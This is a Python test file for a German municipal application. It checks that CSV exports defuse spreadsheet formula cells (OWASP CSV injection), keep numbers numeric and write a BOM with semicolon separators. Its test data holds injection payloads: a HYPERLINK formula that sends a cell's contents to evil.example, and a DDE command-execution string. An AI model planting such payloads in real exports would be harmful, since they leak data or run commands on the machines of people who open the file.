"""CSV exports defuse formula cells (OWASP CSV injection), keep numbers numeric, and are the only writer."""

import ast
import csv
import io
from decimal import Decimal
from pathlib import Path

import pytest

from amtsweg.core import csvexport

FORMULAS = ['=HYPERLINK("https://evil.example/?"&A2;"Klick")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
            "\t=1+1", "\r=1+1", "\n=1", "  =1+1", "＝1+1", "－1", "-", "-5 EUR", "+49 681 123456", "=", "@"]
KEPT_TEXT = ["Saarbrücken", "a=b", "1+1", "", "E-Mail", "Stadt-Verwaltung", "'=already quoted"]
NUMBERS = [-1250, 0, 3.5, Decimal("-12.50"), "-1.234,56", "+3", "-0,50", "12.5", "1.234,56"]


def _roundtrip(row) -> list[str]:
    out = io.StringIO()
    csvexport.writer(out).writerow(row)
    return next(csv.reader(io.StringIO(out.getvalue().removeprefix(csvexport.BOM)), delimiter=";"))


@pytest.mark.parametrize("value", FORMULAS)
def test_formula_cells_get_a_leading_quote(value):
    assert _roundtrip([value]) == ["'" + value]


@pytest.mark.parametrize("value", KEPT_TEXT)
def test_other_text_is_kept(value):
    assert _roundtrip([value]) == [value]


@pytest.mark.parametrize("value", NUMBERS)
def test_numbers_stay_numeric(value):
    assert _roundtrip([value]) == [str(value)]


def test_none_is_empty_and_writerows_defuses_too():
    out = io.StringIO()
    csvexport.writer(out).writerows([[None, "=1"], ["@x", 2]])
    assert out.getvalue() == "\ufeff;'=1\r\n'@x;2\r\n"


SRC = Path(__file__).resolve().parents[3]  # src/


def test_no_other_module_writes_csv_itself():
    """Every CSV export goes through csvexport; csv.reader for imports is fine. Tests may write input files."""
    offenders = []
    for path in sorted(SRC.rglob("*.py")):
        relative = path.relative_to(SRC)
        if "tests" in relative.parts or path.name == "conftest.py" or relative == Path("amtsweg/core/csvexport.py"):
            continue
        for node in ast.walk(ast.parse(path.read_text(), str(path))):
            if isinstance(node, ast.Attribute) and node.attr in {"writer", "DictWriter"} \
                    and isinstance(node.value, ast.Name) and node.value.id == "csv":
                offenders.append(f"{relative}:{node.lineno} csv.{node.attr}")
            elif isinstance(node, ast.ImportFrom) and node.module == "csv" \
                    and {a.name for a in node.names} & {"writer", "DictWriter"}:
                offenders.append(f"{relative}:{node.lineno} from csv import ...")
    assert offenders == []


def test_an_export_opens_in_german_excel_bom_then_semicolons():
    """German Excel reads a double-clicked CSV as UTF-8 only after a byte order mark, and splits columns at
    `;` (the German list separator): the bytes of a download are read here the way Excel reads them."""
    answer = csvexport.response("liste.csv")
    out = csvexport.writer(answer)
    out.writerow(["Behörde", "Anteil (EUR)"])
    out.writerow(["Gemeinde Überherrn, Ortsteil Großrosseln", "1.234,56"])
    raw = answer.content
    assert raw.startswith(b"\xef\xbb\xbf")
    assert answer["Content-Type"] == "text/csv; charset=utf-8"
    assert answer["Content-Disposition"] == 'attachment; filename="liste.csv"'
    rows = list(csv.reader(io.StringIO(raw[3:].decode("utf-8"), newline=""), delimiter=";"))
    assert rows == [["Behörde", "Anteil (EUR)"], ["Gemeinde Überherrn, Ortsteil Großrosseln", "1.234,56"]]
    # without the BOM Excel would have read Windows-1252: the mark is what makes the umlauts right
    assert "Behörde".encode().decode("cp1252") != "Behörde"


def test_every_csv_download_is_made_by_csvexport():
    """A view that answers text/csv itself would lose the BOM (Excel then shows mojibake)."""
    offenders = []
    for path in sorted(SRC.rglob("*.py")):
        relative = path.relative_to(SRC)
        if "tests" in relative.parts or relative == Path("amtsweg/core/csvexport.py"):
            continue
        if "text/csv" in path.read_text():
            offenders.append(str(relative))
    assert offenders == []
